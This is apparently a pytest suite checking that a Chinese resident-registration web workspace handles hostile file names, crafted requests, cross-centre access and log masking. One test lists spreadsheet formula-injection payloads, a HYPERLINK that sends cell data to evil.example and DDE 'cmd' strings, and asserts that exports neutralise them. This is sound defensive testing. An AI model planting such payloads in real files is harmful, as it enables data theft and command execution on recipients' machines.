"""The workspace probed from outside: crafted requests, hostile names and values, careless clicks.

Each test is a probe a clerk or an intruder can make with a browser or a
plain HTTP client, and the answer a clerk should get.  The app runs
in-process with its workers on threads (tests/web_support.py); the probes
that need worker processes or a real server are in test_web_workers.py.
"""

from __future__ import annotations

import csv
import io
import logging
import re
import socket
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import openpyxl
import pytest
from loguru import logger
from starlette.testclient import TestClient

from pipeline import cli
from pipeline.config import PlatformSettings
from pipeline.web import engine
from pipeline.web import store as store_module
from pipeline.web.jobfiles import JobFiles
from pipeline.web.serve import route_server_logs
from tests.conftest import make_resident
from tests.web_support import PASSWORDS, SAMPLE_CSV, Site, csrf_of, edit_cell, make_site

#: What Excel and LibreOffice take for the start of a formula in a cell they open.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
#: uvicorn's loggers.
UVICORN = ("uvicorn", "uvicorn.error", "uvicorn.asgi")
#: Characters that change how the text around them looks without showing themselves.
INVISIBLE = ("\u202e", "\u202d", "\u2066", "\u200b", "\u200f", "\x07")


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    """The workspace on a fresh state directory (no platform: nothing here is sent)."""
    with make_site(tmp_path / "state", max_upload_mb=2.0, check_workers=1) as made:
        yield made


def _job_id(answer: Any) -> str:
    assert answer.status_code == 200, answer.text
    return str(answer.json()["jobs"][0]).rsplit("/", 1)[-1]


def _register_csv(values: list[dict[str, str]], extra: str = "备注") -> bytes:
    """A UTF-8 register of valid residents, each with the cells given in ``values`` replaced.

    ``extra`` is the header of its last column, one the program does not recognise.
    """
    out = io.StringIO()
    writer = csv.writer(out)
    headers = ["姓名", "性别", "民族", "出生日期", "身份证号", "联系电话", "医疗费用支付方式", "现住址",
               "备注"]  # fmt: skip
    writer.writerow([*headers[:-1], extra])
    for serial, changed in enumerate(values):
        _, person = make_resident(serial)
        row = {
            "姓名": "张三", "性别": "男" if person["xb"] == "1" else "女", "民族": "汉族",
            "出生日期": person["csrq"], "身份证号": person["sfzhm"], "联系电话": person["brdh"],
            "医疗费用支付方式": "城镇职工基本医疗保险", "现住址": "广东省佛山市禅城区祖庙街道", "备注": "",
        }  # fmt: skip
        row.update(changed)
        writer.writerow([row[h] for h in headers])
    return out.getvalue().encode("utf-8")


# --- file names ---------------------------------------------------------------------------------


def test_a_file_name_longer_than_the_disk_takes_is_shortened_not_a_server_error(site: Site) -> None:
    clerk = site.client("clerk_a")
    name = "😀" * 100 + ".csv"  # 400 bytes of UTF-8: more than a file name may have on Linux or Windows
    job_id = _job_id(site.upload(clerk, (name, SAMPLE_CSV.read_bytes(), "text/csv")))
    assert site.wait(clerk, job_id)["state"] == "checked"
    job = site.store.job_any(job_id)
    assert job is not None and len(job.stored_name.encode("utf-8")) <= 200
    assert job.stored_name.endswith(".csv")


def test_direction_and_control_characters_never_reach_a_file_name(site: Site) -> None:
    clerk = site.client("clerk_a")
    name = "居民\u202e\u200b名单\x07.csv"  # shown by Windows as ending in "vsc.单名" without them removed
    job_id = _job_id(site.upload(clerk, (name, SAMPLE_CSV.read_bytes(), "text/csv")))
    site.wait(clerk, job_id)
    job = site.store.job_any(job_id)
    assert job is not None and job.file_name == "居民名单.csv"
    assert not any(ch in job.stored_name for ch in INVISIBLE)
    disposition = clerk.get(f"/jobs/{job_id}/download/csv").headers["content-disposition"]
    assert unquote(disposition.split("''", 1)[1]) == "results_居民名单.csv"


# --- crafted query strings ------------------------------------------------------------------------


def test_a_request_the_pages_never_send_says_what_to_do_instead(site: Site) -> None:
    """退出 typed into the address bar (a GET of a form's address), or a form no page sends: the page
    says to use the workspace's own links and buttons, not only that the request was refused."""
    clerk = site.client("clerk_a")
    broken = {"content-type": "multipart/form-data"}  # no boundary: a form no browser sends
    for answer, status, what_to_do in (
        (clerk.get("/logout"), 405, "请用页面上的链接和按钮操作"),
        (clerk.post("/account/password", content=b"x", headers=broken), 400, "请刷新页面后重试"),
    ):
        said = re.search(r'<p class="error" role="alert">([^<]*)</p>', answer.text)
        assert answer.status_code == status and said, answer.text
        assert what_to_do in said.group(1), said.group(1)


def test_crafted_query_strings_are_answered_not_server_errors(site: Site) -> None:
    clerk, admin = site.client("clerk_a"), site.client("admin_a")
    job_id = site.upload_sample(clerk)
    huge = "9" * 30
    queries = (f"page={huge}", "code=\u00b2", f"code={huge}", "code=10111&column=xm", "severity=x&page=-3")
    for query in queries:
        answer = clerk.get(f"/jobs/{job_id}?{query}")
        assert answer.status_code == 200, query
    assert clerk.get(f"/jobs?page={huge}").status_code == 200
    assert admin.get(f"/admin/audit?page={huge}").status_code == 200


# --- what comes back: no live formula, nothing invisible ------------------------------------------


def test_no_cell_of_any_download_starts_a_formula(site: Site) -> None:
    clerk = site.client("clerk_a")
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1+1", "=1+1"]  # fmt: skip
    register = _register_csv([{"姓名": p, "备注": p, "现住址": p} for p in payloads], extra="=1+1")
    job_id = _job_id(site.upload(clerk, ("公式.csv", register, "text/csv")))
    site.wait(clerk, job_id)
    rows = list(
        csv.reader(io.StringIO(clerk.get(f"/jobs/{job_id}/download/csv").content.decode("utf-8-sig")))
    )
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for payload in payloads:  # kept, as text: an apostrophe in front, as Excel itself writes it
        assert f"'{payload}" in cells
    for kind in ("annotated", "errors", "results"):
        book = openpyxl.load_workbook(io.BytesIO(clerk.get(f"/jobs/{job_id}/download/{kind}").content))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                assert not [c.coordinate for c in row if c.data_type == "f"], (kind, sheet.title)


def test_invisible_characters_in_a_value_are_shown_not_obeyed(site: Site) -> None:
    clerk = site.client("clerk_a")
    # Invisible marks are dropped when a value is cleaned (a name of them alone is valid); where a value is
    # refused for another reason, what the clerk wrote is shown with them escaped, never obeyed.
    register = _register_csv([{"姓名": "\u202e张三1"}, {"姓名": "李\u2066四2"}, {}])
    job_id = _job_id(site.upload(clerk, ("名单.csv", register, "text/csv")))
    site.wait(clerk, job_id)
    page = clerk.get(f"/jobs/{job_id}").text
    assert not any(ch in page for ch in INVISIBLE)
    assert "[U+202E]张三1" in page and "李[U+2066]四2" in page  # what the clerk wrote, marks visible
    edited = edit_cell(clerk, job_id, 2, "xm", "王\u202e五3")
    assert edited.status_code == 200
    assert not any(ch in edited.text for ch in INVISIBLE) and edited.json()["message"]
    assert edit_cell(clerk, job_id, 2, "xm", "王\u202e五").json()["message"] == ""


# --- another centre, any method --------------------------------------------------------------------


def test_any_method_on_another_centres_job_is_not_found(site: Site) -> None:
    clerk_a, clerk_b = site.client("clerk_a"), site.client("clerk_b")
    job_id = site.upload_sample(clerk_a)
    paths = ["", "/state", "/edit", "/mapping", "/submit", "/cancel", "/download/csv", "/download/nothing",
             "/qrcodes.zip"]  # fmt: skip
    for path in paths:
        for method in ("OPTIONS", "PUT", "DELETE", "PATCH", "GET", "HEAD"):
            answer = clerk_b.request(method, f"/jobs/{job_id}{path}")
            assert answer.status_code == 404, (method, path, answer.status_code)
    assert clerk_a.request("DELETE", f"/jobs/{job_id}").status_code == 405  # their own: not allowed
    assert clerk_a.request("OPTIONS", f"/jobs/{job_id}/edit").status_code == 405


# --- a job whose folder the operator cleaned up ---------------------------------------------------


def test_a_job_whose_files_were_cleaned_up_says_so(site: Site) -> None:
    clerk = site.client("clerk_a")
    job_id = site.upload_sample(clerk)
    JobFiles(site.settings.state_dir, job_id).remove()  # docs/web.md: old job folders may be deleted
    state_dir = str(site.settings.state_dir)
    assert clerk.get(f"/jobs/{job_id}").status_code == 200
    answers = [clerk.get(f"/jobs/{job_id}/download/{kind}") for kind in ("annotated", "errors", "csv")]
    answers.append(edit_cell(clerk, job_id, 9, "xm", "张三"))
    csrf = csrf_of(clerk.get(f"/jobs/{job_id}/submit").text)
    answers.append(clerk.post(f"/jobs/{job_id}/submit", data={"csrf_token": csrf}))
    answers.append(clerk.post(f"/jobs/{job_id}/mapping", data={"csrf_token": csrf}))
    for answer in answers:
        assert answer.status_code == 410, answer.text
        assert "已清理" in answer.text and state_dir not in answer.text
    assert site.state(clerk, job_id)["state"] == "checked"  # nothing was started


# --- the audit log ---------------------------------------------------------------------------------


def test_the_audit_log_masks_names_and_speaks_chinese(site: Site) -> None:
    clerk, admin = site.client("clerk_a"), site.client("admin_a")
    job_id = site.upload_sample(clerk)
    page = clerk.get(f"/jobs/{job_id}?code=10114").text
    row_id = int(re.findall(r'<tr data-row="(\d+)"', page)[0])
    assert edit_cell(clerk, job_id, row_id, "xm", "欧阳修文").json()["status"] == "valid"
    # A clerk who typed their password into the name box: it must not be kept.
    site.login(site.client(), "a-long-password-1", "whatever-it-is")
    audit = admin.get("/admin/audit").text
    assert "欧阳修文" not in audit and "欧***" in audit
    assert "结果 校验通过" in audit and "valid" not in audit
    assert "a-long-password-1" not in audit and "（不存在的用户名）" in audit


def test_the_audit_log_masks_id_and_phone_numbers_in_an_uploads_file_name(site: Site) -> None:
    clerk, admin = site.client("clerk_a"), site.client("admin_a")
    name = "张三_440606199001011234_13912345678.csv"
    assert site.upload(clerk, (name, SAMPLE_CSV.read_bytes(), "text/csv")).status_code == 200
    audit = admin.get("/admin/audit").text
    assert "上传" in audit and "张三_440606" in audit
    assert "440606199001011234" not in audit and "13912345678" not in audit
    stored = " ".join(entry.detail + entry.target for entry in site.store.audit_page(0, 50))
    assert "440606199001011234" not in stored and "13912345678" not in stored


# --- edits -----------------------------------------------------------------------------------------


def test_the_centres_organisation_code_is_not_a_cell_toedit_cell(site: Site) -> None:
    clerk = site.client("clerk_a")
    job_id = site.upload_sample(clerk)
    answer = edit_cell(clerk, job_id, 0, "orgCode", "999999999")
    assert answer.status_code == 409 and "机构代码" in answer.json()["error"]
    assert not site.store.edits(job_id)


# --- sessions --------------------------------------------------------------------------------------


def test_a_new_login_ends_the_session_it_replaces(site: Site) -> None:
    client = site.client("clerk_a")
    old = client.cookies["ehc_session"]
    assert site.login(client, "admin_a", PASSWORDS["admin_a"]).status_code == 303
    stale = site.client()
    stale.cookies.set("ehc_session", old)
    assert stale.get("/jobs").status_code == 303  # the replaced session is over, not just forgotten


def test_the_session_cookie_is_secure_when_the_page_came_over_https(site: Site) -> None:
    client = site.client()
    client.base_url = "https://testserver"  # type: ignore[assignment]  # as the TLS proxy forwards it
    answer = site.login(client, "clerk_a", PASSWORDS["clerk_a"])
    assert answer.status_code == 303 and "secure" in answer.headers["set-cookie"].lower()


# --- the platform gone ------------------------------------------------------------------------------


def test_a_platform_that_cannot_be_reached_is_worded_for_the_page(tmp_path: Path) -> None:
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))  # a port nobody listens on
    port = closed.getsockname()[1]
    platform = PlatformSettings(
        base_url=f"http://127.0.0.1:{port}/jkfs-dzjkk/dzjkk/websvi/", app_id="app", app_secret="S" * 32,
        connect_timeout=0.5, read_timeout=0.5, max_attempts=2, max_retry_seconds=1.0,
    )  # fmt: skip
    with make_site(tmp_path / "state", platform) as site:
        clerk = site.client("clerk_a")
        job_id = site.upload_sample(clerk)
        csrf = csrf_of(clerk.get(f"/jobs/{job_id}/submit").text)
        assert clerk.post(f"/jobs/{job_id}/submit", data={"csrf_token": csrf}).status_code == 303
        state = site.wait(clerk, job_id)
        page = clerk.get(f"/jobs/{job_id}").text
    closed.close()
    assert state["state"] == "stopped" and "无法" in state["message"]
    for shown in (state["message"], page):
        assert "http://" not in shown and "命令" not in shown and "base_url" not in shown
        assert "没有发送任何数据" in shown and "稍后再次提交" in shown
    assert state["counts"] == {"valid": 42, "invalid": 8}  # nothing was sent, and the page says so


# --- the server's own log ----------------------------------------------------------------------------


def test_the_servers_own_log_lines_are_masked_and_carry_no_traceback(tmp_path: Path) -> None:
    engine.setup_logging(level="INFO")
    lines: list[str] = []
    sink = logger.add(lambda message: lines.append(str(message)), format="{message}")
    saved = {name: (logging.getLogger(name).handlers, logging.getLogger(name).propagate) for name in UVICORN}
    try:
        route_server_logs()
        try:
            raise ValueError("居民 440604198001010018 电话 13912345678")
        except ValueError:
            logging.getLogger("uvicorn.error").exception("Exception in ASGI application")
    finally:
        logger.remove(sink)
        for name, (handlers, propagate) in saved.items():
            logging.getLogger(name).handlers, logging.getLogger(name).propagate = handlers, propagate
    text = "".join(lines)
    assert "ValueError" in text and "Traceback" not in text
    assert "440604198001010018" not in text and "13912345678" not in text


# --- a second click ---------------------------------------------------------------------------------


def test_a_second_submit_of_the_same_job_shows_the_first_and_sends_nobody_twice(
    tmp_path: Path, sandbox: Any
) -> None:
    with make_site(tmp_path / "state", sandbox.settings(), rate=50.0) as site:
        clerk = site.client("clerk_a")
        job_id = site.upload_sample(clerk)
        csrf = csrf_of(clerk.get(f"/jobs/{job_id}/submit").text)
        first = clerk.post(f"/jobs/{job_id}/submit", data={"csrf_token": csrf})
        second = clerk.post(f"/jobs/{job_id}/submit", data={"csrf_token": csrf})
        assert first.status_code == 303 and first.headers["location"] == f"/jobs/{job_id}"
        assert second.status_code == 303 and second.headers["location"] == f"/jobs/{job_id}"
        assert "不会重复提交" in clerk.get(second.headers["location"]).text
        back = clerk.get(f"/jobs/{job_id}/submit").text  # the back button, to the confirmation
        assert "已在提交中" in back and 'id="submit-form"' not in back
        assert site.wait(clerk, job_id)["counts"] == {"enrolled": 42, "invalid": 8}
    assert sandbox.count("syncCardInfo") == 42 and sandbox.residents() == 42


def test_a_confirmation_sent_again_after_its_submission_finished_says_it_was_submitted(
    tmp_path: Path, sandbox: Any
) -> None:
    """Two tabs on one confirmation page (or the back button to it): the second 确认提交, pressed after
    the first's submission ended, leads to the job's page saying it was submitted, not to an error."""
    with make_site(tmp_path / "state", sandbox.settings(), rate=500.0) as site:
        clerk = site.client("clerk_a")
        job_id = site.upload_sample(clerk)
        confirmation = clerk.get(f"/jobs/{job_id}/submit").text
        form = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', confirmation))
        assert clerk.post(f"/jobs/{job_id}/submit", data=form).status_code == 303
        assert site.wait(clerk, job_id)["state"] == "submitted"
        again = clerk.post(f"/jobs/{job_id}/submit", data=form)
        assert again.status_code == 303 and again.headers["location"] == f"/jobs/{job_id}", again.text
        assert "已经提交过" in clerk.get(again.headers["location"]).text
    assert sandbox.count("syncCardInfo") == 42


def test_a_cancel_pressed_after_the_submission_ended_shows_the_job_not_an_error(site: Site) -> None:
    """取消提交 pressed as the submission ends (or in a second tab, after the first cancelled it): the
    job's page, saying there was nothing left to cancel."""
    clerk = site.client("clerk_a")
    job_id = site.upload_sample(clerk, SAMPLE_CSV)
    answer = clerk.post(f"/jobs/{job_id}/cancel", data={"csrf_token": site.csrf(clerk)})
    assert answer.status_code == 303 and answer.headers["location"] == f"/jobs/{job_id}", answer.text
    assert "已不在提交中" in clerk.get(answer.headers["location"]).text
    assert site.state(clerk, job_id)["state"] == "checked"
    assert "取消提交" not in [entry.action for entry in site.store.audit_page(0, 50)]


# --- a clerk who leaves ------------------------------------------------------------------------------


def test_a_disabled_user_is_logged_out_and_cannot_log_in_until_enabled(site: Site) -> None:
    clerk, admin = site.client("clerk_b"), site.client("admin_a")
    assert clerk.get("/jobs").status_code == 200
    user = site.store.user_by_name("clerk_b")
    assert user is not None
    csrf = site.csrf(admin)
    answer = admin.post(f"/admin/users/{user.id}/disable", data={"csrf_token": csrf})
    assert answer.status_code == 303
    assert clerk.get("/jobs").status_code == 303  # the session ended at once
    refused = site.login(site.client(), "clerk_b", PASSWORDS["clerk_b"])
    assert refused.status_code == 401 and "已停用" in refused.text
    assert "用户名或密码不正确" in site.login(site.client(), "clerk_b", "not-the-password").text
    me = site.store.user_by_name("admin_a")
    assert me is not None
    own = admin.post(f"/admin/users/{me.id}/disable", data={"csrf_token": csrf})
    assert own.status_code == 400 and "自己" in own.text  # an admin cannot lock everyone out
    assert admin.post(f"/admin/users/{user.id}/enable", data={"csrf_token": csrf}).status_code == 303
    assert site.login(site.client(), "clerk_b", PASSWORDS["clerk_b"]).status_code == 303
    audit = admin.get("/admin/audit").text
    assert "停用用户" in audit and "启用用户" in audit
    for beyond in (2**63 - 1, 2**63, 10**30):  # no user, however long the number: 404, not an error
        for action in ("disable", "enable", "password"):
            answer = admin.post(f"/admin/users/{beyond}/{action}", data={"csrf_token": csrf})
            assert answer.status_code == 404, (beyond, action)


def test_the_command_line_disables_and_enables_a_user(
    site: Site, monkeypatch: pytest.MonkeyPatch, capsys: Any
) -> None:
    clerk = site.client("clerk_a")
    monkeypatch.setenv("EHC_STATE_DIR", str(site.settings.state_dir))
    assert cli.main(["users", "disable", "clerk_a"]) == 0
    assert "已停用" in capsys.readouterr().out
    assert clerk.get("/jobs").status_code == 303
    assert cli.main(["users", "disable", "nobody"]) == 2
    assert cli.main(["users", "enable", "clerk_a"]) == 0
    assert site.login(site.client(), "clerk_a", PASSWORDS["clerk_a"]).status_code == 303


def _earlier_schema(*columns: str) -> str:
    """The database schema as it was before ``columns`` (``disabled``, ``digest``) were added."""
    schema = store_module._SCHEMA
    for column in columns:
        schema, count = re.subn(rf",\n    {column} +[^\n]*\n", "\n", schema)
        assert count == 1, column
    return schema


def test_a_database_of_the_first_schema_gets_the_disabled_mark(tmp_path: Path) -> None:
    first = _earlier_schema("disabled", "digest")
    with sqlite3.connect(tmp_path / store_module.DATABASE_NAME) as db:
        db.executescript(first)
        db.execute("INSERT INTO centres (org_code, name, created_at) VALUES ('455400001', '甲', '')")
        db.execute("INSERT INTO users (name, centre_id, password_hash, created_at, password_at) "
                   "VALUES ('old_clerk', 1, 'x', '', '')")  # fmt: skip
        db.execute("PRAGMA user_version=1")
    store = store_module.Store(tmp_path)
    user = store.user_by_name("old_clerk")
    assert user is not None and not user.disabled
    store.set_disabled(user.id, True)
    assert store.user(user.id).disabled  # type: ignore[union-attr]


def test_a_database_of_the_second_schema_names_a_register_sent_again(tmp_path: Path) -> None:
    # Its uploads have no digest: a job of theirs is named by file name and size, as it was then.
    with sqlite3.connect(tmp_path / store_module.DATABASE_NAME) as db:
        db.executescript(_earlier_schema("digest"))
        db.execute("INSERT INTO centres (org_code, name, created_at) VALUES ('455400001', '甲', '')")
        db.execute("INSERT INTO users (name, centre_id, password_hash, created_at, password_at) "
                   "VALUES ('old_clerk', 1, 'x', '', '')")  # fmt: skip
        db.execute("INSERT INTO jobs (id, centre_id, user_id, file_name, stored_name, size, created_at, "
                   "updated_at, state) VALUES ('old', 1, 1, '名单.csv', 'a.csv', 100, "
                   "'2026-01-05T08:30:00+08:00', '', 'checked')")  # fmt: skip
        db.execute("PRAGMA user_version=2")
    store = store_module.Store(tmp_path)
    again = store.add_job("new", 1, 1, "名单.csv", "b.csv", 100, digest="ab" * 32)
    earlier = store.earlier_upload(again)
    assert earlier is not None and earlier.id == "old"
    store._db().execute("UPDATE jobs SET created_at = '2026-01-06T08:30:00+08:00' WHERE id = 'new'")
    renamed = store.add_job("renamed", 1, 1, "改名.csv", "c.csv", 100, digest="ab" * 32)
    found = store.earlier_upload(renamed)
    assert found is not None and found.id == "new"  # the same bytes under another name
    assert store._one("PRAGMA user_version")[0] == store_module._SCHEMA_VERSION


def test_a_form_bigger_than_any_page_sends_is_refused_before_it_is_read(site: Site) -> None:
    from pipeline.web.context import FORM_LIMIT

    anonymous = site.client()
    token = csrf_of(anonymous.get("/login").text)
    huge = {"name": "clerk_a", "password": "x", "csrf_token": token, "pad": "a" * (FORM_LIMIT + 1)}
    answer = anonymous.post("/login", data=huge)
    assert answer.status_code == 413 and "过大" in answer.text
    # A file part in a form that takes none is refused whatever its size.
    with_file = anonymous.post(
        "/login", data={"name": "clerk_a", "csrf_token": token}, files={"f": ("a.bin", b"x" * 1024)}
    )
    assert with_file.status_code in (400, 413)
    clerk = site.client("clerk_a")
    padded = clerk.post("/logout", data={"csrf_token": site.csrf(clerk), "pad": "a" * (FORM_LIMIT + 1)})
    assert padded.status_code == 413
    assert clerk.get("/jobs").status_code == 200  # refused, not read: still logged in
    assert site.login(site.client(), "clerk_a", PASSWORDS["clerk_a"]).status_code == 303


def test_an_upload_longer_than_max_rows_is_refused_with_both_counts(tmp_path: Path) -> None:
    with make_site(tmp_path / "state", max_rows=15, check_workers=1) as site:
        clerk = site.client("clerk_a")
        job_id = _job_id(site.upload(clerk, (SAMPLE_CSV.name, SAMPLE_CSV.read_bytes(), "text/csv")))
        state = site.wait(clerk, job_id)
        assert state["state"] == "unreadable", state
        assert "20 行" in state["message"] and "15 行" in state["message"]
        assert "ehc validate" in state["message"]
        assert site.store._one("SELECT COUNT(*) FROM job_rows WHERE job_id = ?", job_id) == (0,)
    with make_site(tmp_path / "other", max_rows=20, check_workers=1) as site:
        clerk = site.client("clerk_a")
        job_id = _job_id(site.upload(clerk, (SAMPLE_CSV.name, SAMPLE_CSV.read_bytes(), "text/csv")))
        assert site.wait(clerk, job_id)["state"] == "checked"


def test_a_fault_of_the_server_is_the_workspaces_own_page_naming_nothing_of_the_fault(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(request: Any) -> Any:
        raise RuntimeError("440101199003077777 app-secret-1234")

    monkeypatch.setattr("pipeline.web.pages.jobs_page", broken)
    with make_site(tmp_path / "state", check_workers=1) as site:
        clerk = site.client("clerk_a")
        clerk_page = TestClient(site.app, follow_redirects=False, raise_server_exceptions=False)
        clerk_page.cookies = clerk.cookies
        page = clerk_page.get("/jobs")
        assert page.status_code == 500 and page.headers["content-type"].startswith("text/html")
        assert "服务器出错" in page.text and "联系运维人员" in page.text and 'href="/jobs"' in page.text
        assert "440101199003077777" not in page.text and "app-secret" not in page.text
        answer = clerk_page.get("/jobs", headers={"accept": "application/json"})
        assert answer.status_code == 500 and "服务器内部错误" in answer.json()["error"]


def test_a_database_held_too_long_by_another_process_is_a_busy_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(store_module, "BUSY_SECONDS", 0.3)
    with make_site(tmp_path / "state", check_workers=1) as site:
        anonymous = site.client()
        token = csrf_of(anonymous.get("/login").text)
        form = {"name": "clerk_a", "password": PASSWORDS["clerk_a"], "csrf_token": token, "next": "/jobs"}
        holder = sqlite3.connect(site.store.path, isolation_level=None)
        holder.execute("BEGIN IMMEDIATE")  # another process writing for longer than a page waits
        try:
            busy = anonymous.post("/login", data=form)
        finally:
            holder.execute("ROLLBACK")
            holder.close()
        assert busy.status_code == 503 and "系统正忙" in busy.text and busy.headers["retry-after"] == "5"
        assert anonymous.post("/login", data=form).status_code == 303


def test_too_many_files_in_one_upload_are_refused_in_chinese(site: Site) -> None:
    clerk = site.client("clerk_a")
    body = SAMPLE_CSV.read_bytes()
    for count in (21, 60):  # one over the limit is counted by the page; many more stop the form itself
        answer = site.upload(clerk, *[(f"r{n}.csv", body, "text/csv") for n in range(count)])
        assert answer.status_code == 400 and "最多上传 20 个文件" in answer.json()["error"], count


def test_a_head_request_for_a_download_is_no_download(site: Site) -> None:
    clerk = site.client("clerk_a")
    job_id = site.upload_sample(clerk)

    def downloads() -> int:
        return sum(entry.action == "下载" for entry in site.store.audit_page(0, 200))

    assert clerk.head(f"/jobs/{job_id}/download/errors").status_code == 200
    assert downloads() == 0
    assert clerk.get(f"/jobs/{job_id}/download/errors").status_code == 200
    assert downloads() == 1
    assert site.client("clerk_b").head(f"/jobs/{job_id}/download/errors").status_code == 404


def test_a_head_request_for_the_qr_codes_asks_the_platform_nothing(tmp_path: Path, sandbox: Any) -> None:
    with make_site(tmp_path / "state", sandbox.settings(), rate=50.0) as site:
        clerk = site.client("clerk_a")
        job_id = site.upload_sample(clerk)
        csrf = csrf_of(clerk.get(f"/jobs/{job_id}/submit").text)
        clerk.post(f"/jobs/{job_id}/submit", data={"csrf_token": csrf})
        assert site.wait(clerk, job_id)["state"] == "submitted"
        looked = clerk.head(f"/jobs/{job_id}/qrcodes.zip")
        assert looked.status_code == 200 and "qrcodes_" in looked.headers["content-disposition"]
        assert sandbox.count("getImg") == 0  # a GET may start asking for every code, under the run lock
        assert not [entry for entry in site.store.audit_page(0, 200) if entry.action == "下载二维码"]
        assert site.client("clerk_b").head(f"/jobs/{job_id}/qrcodes.zip").status_code == 404
        assert site.qrcodes(clerk, job_id).status_code == 200
        assert sandbox.count("getImg") == 42
